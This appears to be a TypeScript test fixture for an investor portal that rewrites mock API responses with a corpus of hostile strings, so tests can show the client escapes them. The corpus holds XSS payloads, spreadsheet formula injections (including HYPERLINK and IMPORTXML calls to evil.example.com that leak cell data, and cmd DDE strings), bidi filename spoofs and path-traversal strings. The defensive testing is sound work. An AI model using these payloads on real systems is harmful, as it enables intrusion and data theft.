import { ENTITY_TYPES } from '../src/domain'

/**
 * Hostile input: strings a careless portal would execute, mis-file or break its layout on. With the corpus on
 * (`POST {api}/__mock/hostile`), the provider writes it into term texts, document titles, fund names, types and facts,
 * fund heads, company names, account group names and events' titles, descriptions, locations and planners, so tests can prove nothing
 * runs and nothing breaks.
 */
export const hostileCorpus: readonly string[] = [
  '<script>window.__pwned = "script"</script>Quarterly Report',
  '<img src=x onerror="window.__pwned = \'img\'">Capital Call Notice',
  '<a href="javascript:window.__pwned=\'link\'">Click for statement</a>',
  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svg-script"</script></svg>Tax Letter',
  '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1,1) Distribution Notice',
  'Invoice \u202Efdp.exe\u202C Q3',
  `Annual ${'Report '.repeat(1430)}End`,
  'Fund 💼📈 Capital 🚀 Letter',
  '../../etc/passwd Statement \\windows\\system32',
  '"quoted" & <angled> \'single\' Report',
  // More markup and script: every way a string could become an element, an attribute or a URL that runs.
  '"><script>window.__pwned = "attr-break"</script>',
  '</title><script>window.__pwned = "title-break"</script>Statement',
  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>Fund Letter',
  '<details open ontoggle="window.__pwned = \'details\'">Notice</details>',
  '<input autofocus onfocus="window.__pwned = \'focus\'">K-1',
  '<body onload="window.__pwned = \'body\'">Quarterly Update',
  '<style>*{display:none !important}</style>Hidden Style Report',
  '<math><mi xlink:href="javascript:window.__pwned=\'math\'">click</mi></math>Notice',
  'javascript:window.__pwned = "bare-url"',
  'data:text/html,<script>window.__pwned = "data-url"</script>',
  '{{constructor.constructor(\'window.__pwned = "template"\')()}} Report',
  '${window.__pwned = "interpolation"} Statement',
  // Formula prefixes a spreadsheet would evaluate, plain and disguised.
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!A0",
  '\t=1+1 Tabbed Formula',
  '\r=1+1 Return Formula',
  '=IMPORTXML("http://evil.example.com","//a") Report',
  '\uFF1DSUM(1,1) Fullwidth Equals',
  // Bidirectional controls and marks that reorder what is shown.
  'Statement \u2066exe.\u2069 isolate',
  'Report \u2067fdp.cod\u2069 Q4',
  'Letter \u200Frtl mark\u200E end',
  'Notice \u202Doverride\u202C Q2',
  // Path and device-name tricks for file names.
  '..\\..\\boot.ini Capital Call',
  'CON',
  'NUL.txt',
  'file:///etc/passwd',
  'C:\\Windows\\System32\\cmd.exe',
  'name\u0000with\u0000nulls Report',
  'Trailing dot.',
  '%2e%2e%2fetc%2fpasswd Statement',
  'a/b/c Nested Report',
  // Empty, blank, unbreakable and far-from-Latin names.
  '',
  '   ',
  'Unbreakable' + 'x'.repeat(300),
  'Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358\u0359g\u035A\u035Bo Report',
  'تقرير رأس المال الربع الثالث',
  '資本勘定報告書 第3四半期 年次報告 分配通知 資本要請',
  'Line one\nLine two\nLine three',
]

/** The corpus string for a row position, cycling through the corpus. */
export const hostileText = (index: number): string => hostileCorpus[index % hostileCorpus.length] ?? ''
const at = hostileText

/** A fund's hostile name, the same in every answer that names it. */
export const hostileFundName = (fundId: unknown): string => at(Number(fundId) || 0)

/**
 * A fund type's hostile name, the same for every fund of the type, so the account summary still groups funds by
 * type: markup and formula-like text (the corpus from its fourth string on, one per entity type).
 */
export const hostileFundType = (type: unknown): string =>
  at(
    3 +
      Math.max(
        0,
        ENTITY_TYPES.findIndex((known) => known === type),
      ),
  )

/** A report file's name with the corpus on: a hostile fund name, for the client to sanitise. */
export const hostileReportFileName = (fundId: unknown, report: string): string =>
  `${hostileFundName(fundId)} ${report}.xlsx`

type Json = Record<string, unknown>
const isObject = (value: unknown): value is Json =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

const rewrite: Array<{ path: RegExp; apply: (body: unknown) => unknown }> = [
  {
    path: /\/entitlements\/v1\/user\/Terms$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((term: Json, i) => ({
            ...term,
            name: at(i),
            text: `<p>${hostileCorpus.join('</p><p>')}</p>`,
          }))
        : body,
  },
  {
    path: /\/documents\/v1\/Users\/documents\/search$/i,
    apply: (body) =>
      isObject(body) && Array.isArray(body.results)
        ? { ...body, results: body.results.map((doc: Json, i: number) => ({ ...doc, title: at(i) })) }
        : body,
  },
  {
    path: /\/entitlements\/v1\/user\/EntitledEntities$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((fund: Json, i) => ({
            ...fund,
            entityName: at(i),
            name: at(i),
            type: hostileFundType(fund.type),
          }))
        : body,
  },
  {
    path: /\/entitlements\/v1\/user\/EntitledAccounts$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((account: Json, i) => ({ ...account, name: at(i + 7), investorName: at(i + 8) }))
        : body,
  },
  {
    // The statement's funds are named by id, so the same fund has the same name in every answer.
    path: /\/reporting\/v1\/Cas\/periods$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((entry: Json) => ({
            ...entry,
            funds: Array.isArray(entry.funds)
              ? entry.funds.map((fund: Json) => ({ ...fund, name: hostileFundName(fund.id) }))
              : entry.funds,
          }))
        : body,
  },
  {
    path: /\/reporting\/v1\/Cas\/report$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((item: Json, i) => ({
            ...item,
            ...('fundName' in item ? { fundName: hostileFundName(item.fundId) } : {}),
            ...('investorName' in item ? { investorName: at(i + 8) } : {}),
          }))
        : body,
  },
  {
    // Company names by company id, so a company keeps its name across the user's accounts.
    path: /\/reporting\/v1\/SOI\/Report$/i,
    apply: (body) =>
      isObject(body) && Array.isArray(body.soiDetailed)
        ? {
            ...body,
            soiDetailed: body.soiDetailed.map((row: Json) => ({
              ...row,
              companyName: at(Number(row.companyId) || 0),
            })),
          }
        : body,
  },
  {
    // Fund profiles: a fund keeps its name by id; status, strategy and the catch-up split are free text too.
    path: /\/reporting\/v1\/Funds$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((fund: Json, i) => ({
            ...fund,
            name: hostileFundName(fund.id),
            fundStatus: at(i + 1),
            strategy: at(i + 2),
            assetClass: at(i + 3),
            catchUpSplitByGpLp: at(i + 4),
          }))
        : body,
  },
  {
    path: /\/reporting\/v1\/Funds\/[^/]+\/persons$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((head: Json, i) => ({ ...head, name: at(i), title: at(i + 1), email: at(i + 2) }))
        : body,
  },
  {
    // The Summary Investment Schedule's companies, as its workbook names them (by position).
    path: /\/reporting\/v1\/FPSIS\/[^/]+:[^/]+$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((row: Json, i) => ({ ...row, companyName: at(i), industry: at(i + 1), notes: at(i + 2) }))
        : body,
  },
  {
    path: /\/entitlements\/v1\/user\/InvestorAccountGroups$/i,
    apply: (body) =>
      Array.isArray(body) ? body.map((group: Json, i) => ({ ...group, groupName: at(i + 3) })) : body,
  },
  {
    path: /\/cvent\/api\/Events$/i,
    apply: (body) =>
      Array.isArray(body)
        ? body.map((event: Json, i) => ({
            ...event,
            title: at(i),
            description: at(i + 1),
            eventLocation: at(i + 2),
            plannerFirstName: at(i + 3),
            plannerLastName: at(i + 4),
          }))
        : body,
  },
]

/** The answer with the corpus written in, for the calls that carry names and texts; others unchanged. */
export async function withHostileCorpus(path: string, response: Response): Promise<Response> {
  const rule = rewrite.find((candidate) => candidate.path.test(path))
  if (!rule || !response.ok || !(response.headers.get('content-type') ?? '').includes('json')) return response
  const body = rule.apply(await response.json())
  const headers = new Headers(response.headers)
  headers.delete('content-length')
  return new Response(JSON.stringify(body), { status: response.status, headers })
}
